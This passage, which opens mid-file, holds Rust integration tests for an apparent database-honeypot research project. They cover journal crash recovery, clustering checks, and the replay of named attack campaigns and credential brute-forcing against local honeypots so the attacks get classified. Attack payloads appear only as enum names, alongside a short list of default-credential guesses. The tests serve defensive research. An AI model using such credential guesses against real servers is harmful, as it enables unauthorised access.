        assert_eq!(
            stats.records_kept as usize,
            recovered.len(),
            "iteration {iter}: stats disagree with the replayed stream"
        );
    }
}

#[test]
fn every_torn_tail_recovers_silently() {
    let (original, segments) = build_journal(40, 64);
    let [segment] = segments.as_slice() else {
        panic!("expected a single segment");
    };
    for cut in 0..=segment.len() {
        let torn = vec![segment[..cut].to_vec()];
        let (recovered, stats) = recover_events(torn);
        assert!(
            original.starts_with(&recovered),
            "cut at {cut}: not a prefix"
        );
        assert!(
            stats.error.is_none(),
            "cut at {cut}: a torn final segment must truncate silently, got {:?}",
            stats.error
        );
        assert_eq!(stats.records_kept as usize, recovered.len());
    }
    // the untorn journal replays completely
    let (recovered, stats) = recover_events(vec![segment.clone()]);
    assert_eq!(recovered, original);
    assert!(stats.is_clean());
}

#[test]
fn clean_multi_segment_journal_replays_exactly() {
    let (original, segments) = build_journal(200, 17);
    let (recovered, stats) = recover_events(segments);
    assert_eq!(recovered, original);
    assert!(
        stats.is_clean(),
        "clean replay reported {}",
        stats.summary()
    );
    assert_eq!(stats.records_kept, 200);
}

/// Spool a deterministic run, abandon it the way a crash would (no close,
/// destructors skipped via `mem::forget`), then rebuild the report from the
/// journal alone. `run()` ends with a durability barrier (`journal_sync`),
/// so the replayed report must be byte-identical to the live one.
#[tokio::test(flavor = "multi_thread")]
async fn crashed_spool_replays_into_an_identical_report() {
    let dir = std::env::temp_dir().join(format!(
        "decoy-journal-it-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or(0)
    ));
    let config = ExperimentConfig::direct(11, 0.005);
    let result = run(config.clone().persist_to(&dir))
        .await
        .expect("spooled run");
    let live_report = Report::generate(&result).render_text();
    assert!(result.store.len() > 0, "run produced no events");
    // crash: leak the store (and its journal writer) so no Drop flush runs
    std::mem::forget(result);

    let (report, stats) =
        Report::from_journal(config, &dir).expect("recovery from a synced journal");
    assert!(
        stats.is_clean(),
        "synced journal recovered dirty: {}",
        stats.summary()
    );
    assert_eq!(
        report.render_text(),
        live_report,
        "replayed report differs from the live report"
    );
    let _ = std::fs::remove_dir_all(&dir);
}
