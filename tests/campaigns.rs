//! Campaign end-to-end tests: every Table 9 attack, executed over real TCP
//! against the corresponding honeypot, must come out the other end of the
//! pipeline with the right classification and campaign tag — the listings
//! of the paper reproduced as living integration tests.

use decoy_databases::agents::actors::TargetSelector;
use decoy_databases::agents::driver::run_session;
use decoy_databases::agents::schedule::PlannedSession;
use decoy_databases::agents::scripts::SessionScript;
use decoy_databases::analysis::classify::{classify_sources, Behavior};
use decoy_databases::analysis::tagging::{tag_sources, AttackCategory, CampaignTag};
use decoy_databases::core::deployment::instance_seed;
use decoy_databases::honeypots::deploy::{spawn, HoneypotSpec};
use decoy_databases::net::time::{Clock, EXPERIMENT_START};
use decoy_databases::store::{ConfigVariant, Dbms, EventStore, HoneypotId, InteractionLevel};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

/// Run one scripted attack over TCP, returning the log and the source.
async fn attack(
    dbms: Dbms,
    level: InteractionLevel,
    config: ConfigVariant,
    script: SessionScript,
) -> (Arc<EventStore>, IpAddr) {
    let store = EventStore::new();
    let id = HoneypotId::new(dbms, level, config, 0);
    let hp = spawn(
        store.clone(),
        HoneypotSpec::loopback(id, Clock::simulated(), instance_seed(5, id)),
    )
    .await
    .expect("spawn honeypot");
    let src = Ipv4Addr::new(60, 9, 1, 23);
    let session = PlannedSession {
        ts: EXPERIMENT_START,
        actor_idx: 0,
        src,
        target: TargetSelector {
            dbms,
            level,
            config: Some(config),
        },
        script,
    };
    let outcome = run_session(hp.addr(), &session).await;
    assert_eq!(outcome.errors, 0, "campaign errored against {dbms:?}");
    tokio::time::sleep(std::time::Duration::from_millis(150)).await;
    hp.shutdown().await;
    (store, IpAddr::V4(src))
}

/// Assert the pipeline verdict for the source.
fn assert_verdict(
    store: &Arc<EventStore>,
    src: IpAddr,
    behavior: Behavior,
    tag: CampaignTag,
    category: AttackCategory,
) {
    let profiles = classify_sources(store, None);
    assert_eq!(
        profiles[&src].primary(),
        behavior,
        "classification for {tag:?}"
    );
    let tags = tag_sources(store, None);
    assert!(
        tags.get(&src).map(|t| t.contains(&tag)).unwrap_or(false),
        "missing tag {tag:?}: got {:?}",
        tags.get(&src)
    );
    assert_eq!(tag.category(), category);
}

#[tokio::test]
async fn listing1_p2pinfect() {
    let (store, src) = attack(
        Dbms::Redis,
        InteractionLevel::Medium,
        ConfigVariant::Default,
        SessionScript::P2pInfect,
    )
    .await;
    assert_verdict(
        &store,
        src,
        Behavior::Exploiting,
        CampaignTag::P2pInfect,
        AttackCategory::AttackOnSystem,
    );
}

#[tokio::test]
async fn listing2_abcbot() {
    let (store, src) = attack(
        Dbms::Redis,
        InteractionLevel::Medium,
        ConfigVariant::Default,
        SessionScript::AbcBot,
    )
    .await;
    assert_verdict(
        &store,
        src,
        Behavior::Exploiting,
        CampaignTag::AbcBot,
        AttackCategory::AttackOnSystem,
    );
}

#[tokio::test]
async fn listing3_redis_cve_2022_0543() {
    let (store, src) = attack(
        Dbms::Redis,
        InteractionLevel::Medium,
        ConfigVariant::Default,
        SessionScript::RedisCve20220543,
    )
    .await;
    assert_verdict(
        &store,
        src,
        Behavior::Exploiting,
        CampaignTag::RedisCve20220543,
        AttackCategory::AttackOnSystem,
    );
}

#[tokio::test]
async fn listing4_kinsing() {
    let (store, src) = attack(
        Dbms::Postgres,
        InteractionLevel::Medium,
        ConfigVariant::Default,
        SessionScript::Kinsing,
    )
    .await;
    assert_verdict(
        &store,
        src,
        Behavior::Exploiting,
        CampaignTag::Kinsing,
        AttackCategory::AttackOnSystem,
    );
}

#[tokio::test]
async fn listings5_6_lucifer() {
    let (store, src) = attack(
        Dbms::Elastic,
        InteractionLevel::Medium,
        ConfigVariant::Default,
        SessionScript::Lucifer,
    )
    .await;
    assert_verdict(
        &store,
        src,
        Behavior::Exploiting,
        CampaignTag::Lucifer,
        AttackCategory::AttackOnSystem,
    );
}

#[tokio::test]
async fn listings7_8_mongo_ransom_both_groups() {
    for group in [0u8, 1] {
        let (store, src) = attack(
            Dbms::MongoDb,
            InteractionLevel::High,
            ConfigVariant::FakeData,
            SessionScript::MongoRansom { group },
        )
        .await;
        assert_verdict(
            &store,
            src,
            Behavior::Exploiting,
            CampaignTag::MongoRansom,
            AttackCategory::AttackOnData,
        );
    }
}

#[tokio::test]
async fn listing10_rdp_scan_is_scouting_not_exploiting() {
    for (dbms, level) in [
        (Dbms::Redis, InteractionLevel::Medium),
        (Dbms::Postgres, InteractionLevel::Medium),
    ] {
        let (store, src) =
            attack(dbms, level, ConfigVariant::Default, SessionScript::RdpProbe).await;
        assert_verdict(
            &store,
            src,
            Behavior::Scouting,
            CampaignTag::RdpScan,
            AttackCategory::UnrelatedServiceScan,
        );
    }
}

#[tokio::test]
async fn listing11_jdwp_scan() {
    let (store, src) = attack(
        Dbms::Redis,
        InteractionLevel::Medium,
        ConfigVariant::Default,
        SessionScript::JdwpProbe,
    )
    .await;
    assert_verdict(
        &store,
        src,
        Behavior::Scouting,
        CampaignTag::JdwpScan,
        AttackCategory::UnrelatedServiceScan,
    );
}

#[tokio::test]
async fn listing12_vmware_recon() {
    let (store, src) = attack(
        Dbms::Elastic,
        InteractionLevel::Medium,
        ConfigVariant::Default,
        SessionScript::VmwareRecon,
    )
    .await;
    let tags = tag_sources(&store, None);
    assert!(tags[&src].contains(&CampaignTag::VmwareRecon));
}

#[tokio::test]
async fn listing13_privilege_manipulation() {
    let (store, src) = attack(
        Dbms::Postgres,
        InteractionLevel::Medium,
        ConfigVariant::Default,
        SessionScript::PgPrivilege,
    )
    .await;
    assert_verdict(
        &store,
        src,
        Behavior::Exploiting,
        CampaignTag::PrivilegeManipulation,
        AttackCategory::AttackOnDbms,
    );
}

#[tokio::test]
async fn listing14_craftcms_probe() {
    let (store, src) = attack(
        Dbms::Elastic,
        InteractionLevel::Medium,
        ConfigVariant::Default,
        SessionScript::CraftCms,
    )
    .await;
    let tags = tag_sources(&store, None);
    assert!(tags[&src].contains(&CampaignTag::CraftCmsProbe));
    assert_eq!(
        CampaignTag::CraftCmsProbe.category(),
        AttackCategory::UnrelatedServiceScan
    );
}

#[tokio::test]
async fn bruteforce_tagging_from_mssql_burst() {
    let creds: Vec<(String, String)> = vec![
        ("sa".into(), "123".into()),
        ("sa".into(), "123456".into()),
        ("admin".into(), "1234".into()),
    ];
    let (store, src) = attack(
        Dbms::Mssql,
        InteractionLevel::Low,
        ConfigVariant::MultiService,
        SessionScript::MssqlBrute { creds },
    )
    .await;
    assert_verdict(
        &store,
        src,
        Behavior::Scouting,
        CampaignTag::BruteForce,
        AttackCategory::AttackOnDbms,
    );
}

#[tokio::test]
async fn pure_scanner_stays_a_scanner() {
    let (store, src) = attack(
        Dbms::Mssql,
        InteractionLevel::Low,
        ConfigVariant::MultiService,
        SessionScript::ConnectOnly,
    )
    .await;
    let profiles = classify_sources(&store, None);
    assert_eq!(profiles[&src].primary(), Behavior::Scanning);
    assert!(!tag_sources(&store, None).contains_key(&src));
}
