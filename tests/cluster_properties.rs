//! Property-based oracle for the nearest-neighbor-chain Ward rewrite: on
//! arbitrary weighted sparse inputs — including tied distances and
//! duplicate points — `ward_cluster` (chain) must describe the same tree
//! as `ward_cluster_naive` (the retained greedy global-scan
//! implementation), with identical merge-height multisets and identical
//! `cut_at`/`cut_into` partitions.
//!
//! The two algorithms record independent merges in different chronological
//! orders, so their Lance–Williams updates round differently in the last
//! bits. Heights are therefore compared within a 1e-9 relative tolerance,
//! and partition comparisons skip thresholds that land *inside* a noisy
//! near-tie run (where sub-tolerance rounding legitimately decides the
//! canonical order). Exact ties — bitwise-equal heights, the duplicate
//! point case — are compared in full: canonicalization resolves them
//! deterministically in both implementations.

use decoy_databases::analysis::cluster::{ward_cluster, ward_cluster_naive, Dendrogram};
use decoy_databases::analysis::tf::{TfVector, Vocabulary};
use proptest::prelude::*;

/// Relative height tolerance for cross-implementation comparison.
fn tol(h: f64) -> f64 {
    1e-9 * (1.0 + h.abs())
}

/// Every cluster a dendrogram ever forms, as its sorted leaf set plus the
/// merge height and weight, sorted by leaf set. Order-free: equal outputs
/// mean the two merge histories describe the exact same tree.
fn leaf_sets(d: &Dendrogram) -> Vec<(Vec<usize>, f64, f64)> {
    let mut sets: Vec<Vec<usize>> = (0..d.n).map(|i| vec![i]).collect();
    let mut out = Vec::new();
    for m in &d.merges {
        let mut leaves = sets[m.a].clone();
        leaves.extend_from_slice(&sets[m.b]);
        leaves.sort_unstable();
        out.push((leaves.clone(), m.height, m.size));
        sets.push(leaves);
    }
    out.sort_by(|x, y| x.0.cmp(&y.0));
    out
}

/// The shared oracle assertion (mirrors `assert_equivalent` in the unit
/// tests of `decoy_analysis::ward`).
fn assert_chain_matches_naive(vectors: &[TfVector], weights: &[f64]) -> Result<(), TestCaseError> {
    let chain = ward_cluster(vectors, weights);
    let naive = ward_cluster_naive(vectors, weights);
    prop_assert_eq!(chain.n, naive.n);
    prop_assert_eq!(chain.merges.len(), naive.merges.len());

    // same tree: every cluster ever formed has the same leaf set
    let (cs, ns) = (leaf_sets(&chain), leaf_sets(&naive));
    for (c, v) in cs.iter().zip(&ns) {
        prop_assert_eq!(&c.0, &v.0, "leaf sets diverge");
        prop_assert!(
            (c.1 - v.1).abs() <= tol(c.1),
            "cluster height {} vs {}",
            c.1,
            v.1
        );
        prop_assert!((c.2 - v.2).abs() <= 1e-9, "cluster weight");
    }
    // identical merge-height multisets (sorted heights pairwise close)
    let mut ch: Vec<f64> = chain.merges.iter().map(|m| m.height).collect();
    let mut nh: Vec<f64> = naive.merges.iter().map(|m| m.height).collect();
    ch.sort_by(f64::total_cmp);
    nh.sort_by(f64::total_cmp);
    for (c, v) in ch.iter().zip(&nh) {
        prop_assert!((c - v).abs() <= tol(*c), "height multiset: {} vs {}", c, v);
    }
    // canonical heights are non-decreasing
    for w in chain.merges.windows(2) {
        prop_assert!(w[0].height <= w[1].height + 1e-12);
    }

    // identical partitions at thresholds between near-tie height classes
    let mut cuts: Vec<f64> = vec![-1.0];
    for w in chain.merges.windows(2) {
        if w[1].height - w[0].height > tol(w[1].height) {
            cuts.push((w[0].height + w[1].height) / 2.0);
        }
    }
    if let Some(last) = chain.merges.last() {
        cuts.push(last.height + 1.0);
    }
    for t in cuts {
        prop_assert_eq!(chain.cut_at(t), naive.cut_at(t), "cut_at({})", t);
    }
    // identical partitions for every k whose boundary is decidable:
    // outside any tie run, or inside an *exact* (bitwise) tie run
    for k in 1..=chain.n {
        let boundary = chain.n - k; // first merge NOT applied
        let decidable = boundary == 0
            || boundary >= chain.merges.len()
            || chain.merges[boundary].height - chain.merges[boundary - 1].height
                > tol(chain.merges[boundary].height)
            || (chain.merges[boundary].height == naive.merges[boundary].height
                && chain.merges[boundary - 1].height == naive.merges[boundary - 1].height);
        if decidable {
            prop_assert_eq!(chain.cut_into(k), naive.cut_into(k), "cut_into({})", k);
        }
    }
    Ok(())
}

proptest! {
    /// Random short documents over a tiny term alphabet — the regime of the
    /// real pipeline after masking, where duplicate documents and tied
    /// distances arise constantly.
    #[test]
    fn chain_equals_naive_on_sparse_documents(
        docs in proptest::collection::vec(
            proptest::collection::vec(0u8..5, 1..5), // terms per document
            2..24,
        ),
        weights in proptest::collection::vec(1u8..4, 24),
    ) {
        let mut vocab = Vocabulary::new();
        let vectors: Vec<TfVector> = docs
            .iter()
            .map(|doc| {
                let terms: Vec<String> = doc.iter().map(|t| format!("T{t}")).collect();
                TfVector::from_terms(&terms, &mut vocab)
            })
            .collect();
        let weights: Vec<f64> = weights[..vectors.len()].iter().map(|&w| w as f64).collect();
        assert_chain_matches_naive(&vectors, &weights)?;
    }

    /// Coarse-grid coordinates force exact ties in the *initial*
    /// dissimilarity matrix, not just at duplicate height zero.
    #[test]
    fn chain_equals_naive_on_grid_points(
        points in proptest::collection::vec(
            proptest::collection::vec(0u8..4, 1..4), // quantized coordinates
            2..20,
        ),
        weights in proptest::collection::vec(1u8..3, 20),
    ) {
        let vectors: Vec<TfVector> = points
            .iter()
            .map(|p| {
                TfVector::from_dense(p.iter().map(|&q| q as f64 * 0.25).collect(), 1)
            })
            .collect();
        let weights: Vec<f64> = weights[..vectors.len()].iter().map(|&w| w as f64).collect();
        assert_chain_matches_naive(&vectors, &weights)?;
    }

    /// Continuous random coordinates: no exact ties, so the full
    /// partition comparison applies at almost every threshold.
    #[test]
    fn chain_equals_naive_on_continuous_points(
        points in proptest::collection::vec(
            proptest::collection::vec(0.0f64..1.0, 2),
            2..20,
        ),
        weights in proptest::collection::vec(1.0f64..4.0, 20),
    ) {
        let vectors: Vec<TfVector> = points
            .iter()
            .map(|p| TfVector::from_dense(p.clone(), 1))
            .collect();
        let weights: Vec<f64> = weights[..vectors.len()].to_vec();
        assert_chain_matches_naive(&vectors, &weights)?;
    }

    /// Duplicate-heavy inputs: every point is drawn from at most three
    /// distinct locations, so zero-height exact-tie merges dominate.
    #[test]
    fn chain_equals_naive_on_duplicated_points(
        picks in proptest::collection::vec(0u8..3, 2..24),
        weights in proptest::collection::vec(1u8..5, 24),
    ) {
        let sites = [[0.0, 0.0], [1.0, 0.5], [0.25, 2.0]];
        let vectors: Vec<TfVector> = picks
            .iter()
            .map(|&s| TfVector::from_dense(sites[s as usize].to_vec(), 1))
            .collect();
        let weights: Vec<f64> = weights[..vectors.len()].iter().map(|&w| w as f64).collect();
        assert_chain_matches_naive(&vectors, &weights)?;
    }
}
