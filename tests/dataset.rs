//! Dataset artifact tests (Appendix B): the standardized log exports to
//! JSON lines, re-imports losslessly, and the re-imported store yields the
//! same analysis results — the reproducibility promise of the paper's
//! public dataset.

use decoy_databases::analysis::classify::classify_sources;
use decoy_databases::analysis::tables;
use decoy_databases::core::runner::{run, ExperimentConfig};
use decoy_databases::store::EventStore;

#[tokio::test]
async fn export_import_roundtrip_preserves_analysis() {
    let result = run(ExperimentConfig::direct(77, 0.005)).await.unwrap();
    let exported = result.store.to_json_lines();
    assert!(!exported.is_empty());
    assert_eq!(exported.lines().count(), result.store.len());

    let imported = EventStore::from_json_lines(&exported).expect("valid json lines");
    assert_eq!(imported.all(), result.store.all());

    // analyses agree between original and re-imported dataset
    let original = classify_sources(&result.store, None);
    let reloaded = classify_sources(&imported, None);
    assert_eq!(original, reloaded);
    assert_eq!(
        tables::bruteforce_summary(&result.store),
        tables::bruteforce_summary(&imported)
    );
}

#[tokio::test]
async fn dataset_is_self_describing_json() {
    let result = run(ExperimentConfig::direct(78, 0.002)).await.unwrap();
    let exported = result.store.to_json_lines();
    // every line parses standalone and carries the standardized fields
    for line in exported.lines().take(200) {
        let value: serde_json::Value = serde_json::from_str(line).expect("valid json");
        assert!(value.get("ts").is_some());
        assert!(value.get("honeypot").is_some());
        assert!(value.get("src").is_some());
        assert!(value.get("kind").is_some());
    }
}
