//! Proptest strategies for arbitrary [`Event`]s, shared by the round-trip
//! and recovery suites.
//!
//! Unlike the narrower generator in `frame_properties.rs` (tuned to make
//! aggregate collisions likely), this one is built for *serialization*
//! properties: it covers every enum variant the store can log — all seven
//! DBMS families, all three interaction levels, all five config variants,
//! every `EventKind` including fleet `Health` telemetry — plus IPv6
//! sources, empty strings, and non-ASCII text, so an encoding that forgets
//! a branch or mishandles a length cannot pass.

use decoy_databases::net::supervisor::HealthState;
use decoy_databases::net::time::Timestamp;
use decoy_databases::store::{ConfigVariant, Dbms, Event, EventKind, HoneypotId, InteractionLevel};
use proptest::prelude::*;
use std::net::IpAddr;

pub fn arb_dbms() -> impl Strategy<Value = Dbms> {
    prop_oneof![
        Just(Dbms::MySql),
        Just(Dbms::Postgres),
        Just(Dbms::Redis),
        Just(Dbms::Mssql),
        Just(Dbms::Elastic),
        Just(Dbms::MongoDb),
        Just(Dbms::CouchDb),
    ]
}

pub fn arb_level() -> impl Strategy<Value = InteractionLevel> {
    prop_oneof![
        Just(InteractionLevel::Low),
        Just(InteractionLevel::Medium),
        Just(InteractionLevel::High),
    ]
}

pub fn arb_config() -> impl Strategy<Value = ConfigVariant> {
    prop_oneof![
        Just(ConfigVariant::Default),
        Just(ConfigVariant::FakeData),
        Just(ConfigVariant::LoginDisabled),
        Just(ConfigVariant::MultiService),
        Just(ConfigVariant::SingleService),
    ]
}

pub fn arb_health_state() -> impl Strategy<Value = HealthState> {
    prop_oneof![
        Just(HealthState::Healthy),
        Just(HealthState::Degraded),
        Just(HealthState::Down),
    ]
}

/// Text as attackers actually send it: possibly empty, possibly non-ASCII
/// (UTF-8 lengths differ from char counts — a classic varint-length bug).
fn arb_text() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(String::new()),
        "[ -~]{1,24}",
        "[\\x20-\\x7e\u{00e9}\u{4e2d}\u{1f600}]{1,12}",
    ]
}

pub fn arb_kind() -> impl Strategy<Value = EventKind> {
    prop_oneof![
        Just(EventKind::Connect),
        Just(EventKind::Disconnect),
        (arb_text(), arb_text(), any::<bool>()).prop_map(|(username, password, success)| {
            EventKind::LoginAttempt {
                username,
                password,
                success,
            }
        }),
        (arb_text(), arb_text()).prop_map(|(action, raw)| EventKind::Command { action, raw }),
        (
            proptest::num::usize::ANY,
            proptest::option::of(arb_text()),
            arb_text()
        )
            .prop_map(|(len, recognized, preview)| EventKind::Payload {
                len,
                recognized,
                preview,
            }),
        arb_text().prop_map(|detail| EventKind::Malformed { detail }),
        (arb_health_state(), any::<u32>(), arb_text()).prop_map(|(state, restarts, detail)| {
            EventKind::Health {
                state,
                restarts,
                detail,
            }
        }),
    ]
}

/// Either address family; the journal's ip tag must round-trip both.
pub fn arb_ip() -> impl Strategy<Value = IpAddr> {
    prop_oneof![
        any::<[u8; 4]>().prop_map(IpAddr::from),
        any::<[u8; 16]>().prop_map(IpAddr::from),
    ]
}

pub fn arb_event() -> impl Strategy<Value = Event> {
    (
        any::<u64>().prop_map(|ms| ms % (1u64 << 50)),
        arb_dbms(),
        arb_level(),
        arb_config(),
        any::<u16>(),
        arb_ip(),
        any::<u64>(),
        arb_kind(),
    )
        .prop_map(
            |(ms, dbms, level, config, instance, src, session, kind)| Event {
                ts: Timestamp::from_millis(ms),
                honeypot: HoneypotId::new(dbms, level, config, instance),
                src,
                session,
                kind,
            },
        )
}
