//! Shared helpers for the integration-test suite.

#![allow(dead_code)] // each test binary uses a subset

use decoy_databases::store::EventStore;
use std::time::{Duration, Instant};

pub mod gen;

/// Poll `pred` over the store until it holds or `deadline` elapses.
///
/// Events land asynchronously: a client's `connect()` returns on SYN-ACK,
/// which can be before the listener has even `accept()`ed the socket, and
/// session handlers log on their own tasks. Tests must therefore wait on
/// the *log*, never on socket calls or bare sleeps. Returns whether the
/// predicate became true.
pub async fn wait_for_events(
    store: &EventStore,
    pred: impl Fn(&EventStore) -> bool,
    deadline: Duration,
) -> bool {
    let end = Instant::now() + deadline;
    loop {
        if pred(store) {
            return true;
        }
        if Instant::now() >= end {
            return false;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}
