//! Network ≡ Direct equivalence: the substitution argument of DESIGN.md.
//!
//! The same `(seed, scale)` replayed over real TCP and via direct emission
//! must agree on every aggregate the paper's tables are built from:
//! per-family source sets, login attempt counts and credentials,
//! classification counts, and campaign tags.

use decoy_databases::analysis::classify::{classify_sources, ClassCounts};
use decoy_databases::analysis::tagging::tag_sources;
use decoy_databases::core::runner::{run, ExperimentConfig};
use decoy_databases::store::{Dbms, EventKind, EventStore};
use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::Arc;

const SEED: u64 = 904;
const SCALE: f64 = 0.004;

fn login_counts(store: &Arc<EventStore>) -> BTreeMap<(IpAddr, Dbms), usize> {
    let mut out = BTreeMap::new();
    for e in store.all() {
        if matches!(e.kind, EventKind::LoginAttempt { .. }) {
            *out.entry((e.src, e.honeypot.dbms)).or_insert(0) += 1;
        }
    }
    out
}

fn credentials(store: &Arc<EventStore>) -> BTreeMap<IpAddr, Vec<(String, String)>> {
    let mut out: BTreeMap<IpAddr, Vec<(String, String)>> = BTreeMap::new();
    for e in store.all() {
        if let EventKind::LoginAttempt {
            username, password, ..
        } = e.kind
        {
            out.entry(e.src).or_default().push((username, password));
        }
    }
    for creds in out.values_mut() {
        creds.sort();
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn modes_equivalent() {
    let mut network_config = ExperimentConfig::network(SEED, SCALE);
    network_config.deployment_scale = 0.05;
    let mut direct_config = ExperimentConfig::direct(SEED, SCALE);
    direct_config.deployment_scale = 0.05;

    let network = run(network_config).await.expect("network run");
    let direct = run(direct_config).await.expect("direct run");
    assert_eq!(network.sessions, direct.sessions, "same schedule");
    assert_eq!(
        network.connections, direct.connections,
        "same connection count"
    );

    // identical source populations per family
    for dbms in Dbms::all() {
        let mut net_sources: Vec<IpAddr> =
            network.store.by_dbms(dbms).iter().map(|e| e.src).collect();
        net_sources.sort();
        net_sources.dedup();
        let mut dir_sources: Vec<IpAddr> =
            direct.store.by_dbms(dbms).iter().map(|e| e.src).collect();
        dir_sources.sort();
        dir_sources.dedup();
        assert_eq!(
            net_sources,
            dir_sources,
            "source set mismatch for {}",
            dbms.label()
        );
    }

    // identical login volumes and captured credentials
    assert_eq!(login_counts(&network.store), login_counts(&direct.store));
    assert_eq!(credentials(&network.store), credentials(&direct.store));

    // identical behavior classification
    for dbms in Dbms::all() {
        let net = ClassCounts::from_profiles(classify_sources(&network.store, Some(dbms)).values());
        let dir = ClassCounts::from_profiles(classify_sources(&direct.store, Some(dbms)).values());
        assert_eq!(net, dir, "classification mismatch for {}", dbms.label());
    }

    // identical campaign tagging
    let net_tags = tag_sources(&network.store, None);
    let dir_tags = tag_sources(&direct.store, None);
    assert_eq!(net_tags, dir_tags, "campaign tags diverge between modes");
}
