//! Loopback concurrency smoke for the zero-copy wire path (DESIGN.md §11):
//! all six protocol honeypots run at once on one shared store while
//! concurrent clients hammer them with well-formed sessions. The contract:
//!
//! * every scripted client session completes without a protocol error,
//! * the honeypots record **zero** `Malformed` events — the zero-copy
//!   decoders parse concurrent well-formed traffic exactly like the
//!   buffered ones did, and
//! * with a journal attached, replaying it yields exactly the store's
//!   events (count parity + clean recovery stats), proving the pooled
//!   buffers never corrupt what gets persisted.

use decoy_databases::honeypots::deploy::{spawn, HoneypotSpec};
use decoy_databases::net::framed::Framed;
use decoy_databases::net::time::Clock;
use decoy_databases::store::{
    ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel, JournalConfig,
    JournalReader, JournalWriter,
};
use decoy_databases::wire::mongo::bson::doc;
use decoy_databases::wire::mongo::{MongoCodec, MongoMessage};
use decoy_databases::wire::{http, mysql, pgwire, resp, tds};
use std::net::SocketAddr;
use tokio::net::TcpStream;

const CLIENTS_PER_PROTOCOL: usize = 6;
const SESSIONS_PER_CLIENT: usize = 3;

type Fail = Box<dyn std::error::Error + Send + Sync>;

async fn pg_session(addr: SocketAddr) -> Result<(), Fail> {
    let stream = TcpStream::connect(addr).await?;
    let mut f = Framed::new(stream, pgwire::PgClientCodec::new());
    f.write_frame(&pgwire::FrontendMessage::Startup {
        params: vec![("user".into(), "postgres".into())],
    })
    .await?;
    loop {
        match f.read_frame().await?.ok_or("closed during auth")? {
            pgwire::BackendMessage::AuthenticationCleartextPassword
            | pgwire::BackendMessage::AuthenticationMd5Password { .. } => {
                f.write_frame(&pgwire::FrontendMessage::Password("postgres".into()))
                    .await?;
            }
            pgwire::BackendMessage::ReadyForQuery { .. } => break,
            pgwire::BackendMessage::ErrorResponse { .. } => return Err("login rejected".into()),
            _ => continue,
        }
    }
    f.write_frame(&pgwire::FrontendMessage::Query("SELECT version();".into()))
        .await?;
    loop {
        if let pgwire::BackendMessage::ReadyForQuery { .. } =
            f.read_frame().await?.ok_or("closed mid query")?
        {
            break;
        }
    }
    f.write_frame(&pgwire::FrontendMessage::Terminate).await?;
    Ok(())
}

async fn mysql_session(addr: SocketAddr) -> Result<(), Fail> {
    let stream = TcpStream::connect(addr).await?;
    let mut f = Framed::new(stream, mysql::MySqlCodec);
    let greeting = f.read_frame().await?.ok_or("no greeting")?;
    mysql::Greeting::parse(&greeting.payload)?;
    let login = mysql::LoginRequest::cleartext("root", "smoke", None);
    f.write_frame(&mysql::MySqlPacket {
        seq: greeting.seq.wrapping_add(1),
        payload: login.build(),
    })
    .await?;
    f.read_frame().await?.ok_or("no auth reply")?;
    let mut q = vec![0x03];
    q.extend_from_slice(b"SELECT @@version");
    f.write_frame(&mysql::MySqlPacket {
        seq: 0,
        payload: q.into(),
    })
    .await?;
    f.read_frame().await?.ok_or("no result")?;
    Ok(())
}

async fn resp_session(addr: SocketAddr) -> Result<(), Fail> {
    let stream = TcpStream::connect(addr).await?;
    let mut f = Framed::new(stream, resp::RespCodec::client());
    for cmd in [
        resp::RespValue::command(&["PING"]),
        resp::RespValue::command(&["SET", "smoke:key", "1"]),
        resp::RespValue::command(&["GET", "smoke:key"]),
    ] {
        f.write_frame(&cmd).await?;
        f.read_frame().await?.ok_or("server closed")?;
    }
    Ok(())
}

async fn tds_session(addr: SocketAddr) -> Result<(), Fail> {
    let stream = TcpStream::connect(addr).await?;
    let mut f = Framed::new(stream, tds::TdsCodec);
    f.write_frame(&tds::TdsPacket::eom(
        tds::PKT_PRELOGIN,
        tds::build_prelogin(&[
            (0x00, vec![15, 0, 0, 0, 0, 0].into()),
            (0x01, vec![2].into()),
        ]),
    ))
    .await?;
    f.read_frame().await?.ok_or("no prelogin reply")?;
    let login = tds::Login7 {
        hostname: "SMOKE".into(),
        username: "sa".into(),
        password: "smoke".into(),
        appname: "wire_load_smoke".into(),
        servername: addr.ip().to_string(),
        database: String::new(),
    };
    f.write_frame(&tds::TdsPacket::eom(tds::PKT_LOGIN7, login.build()))
        .await?;
    f.read_frame().await?.ok_or("no login reply")?;
    Ok(())
}

async fn mongo_session(addr: SocketAddr) -> Result<(), Fail> {
    let stream = TcpStream::connect(addr).await?;
    let mut f = Framed::new(stream, MongoCodec);
    for (rid, cmd) in [
        doc! { "isMaster" => 1i32, "$db" => "admin" },
        doc! { "buildInfo" => 1i32, "$db" => "admin" },
    ]
    .into_iter()
    .enumerate()
    {
        f.write_frame(&MongoMessage::msg(rid as i32 + 1, cmd))
            .await?;
        f.read_frame().await?.ok_or("server closed")?;
    }
    Ok(())
}

async fn http_session(addr: SocketAddr) -> Result<(), Fail> {
    let stream = TcpStream::connect(addr).await?;
    let mut f = Framed::new(stream, http::HttpClientCodec);
    for req in [
        http::HttpRequest::new("GET", "/"),
        http::HttpRequest::new("POST", "/_search")
            .with_body("application/json", r#"{"query":{"match_all":{}}}"#),
    ] {
        f.write_frame(&req).await?;
        f.read_frame().await?.ok_or("server closed")?;
    }
    Ok(())
}

/// All six protocols at once, many concurrent clients each, on one shared
/// store spooling into a journal.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_wire_sessions_decode_cleanly_and_journal_in_parity() {
    let dir = std::env::temp_dir().join(format!("decoy-wire-smoke-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);

    let store = EventStore::new();
    store.with_journal(
        JournalWriter::open(JournalConfig {
            fsync: false,
            ..JournalConfig::spool(&dir)
        })
        .expect("open journal"),
    );

    let specs = [
        HoneypotId::new(
            Dbms::Postgres,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        ),
        HoneypotId::new(
            Dbms::MySql,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        ),
        HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        ),
        HoneypotId::new(
            Dbms::Mssql,
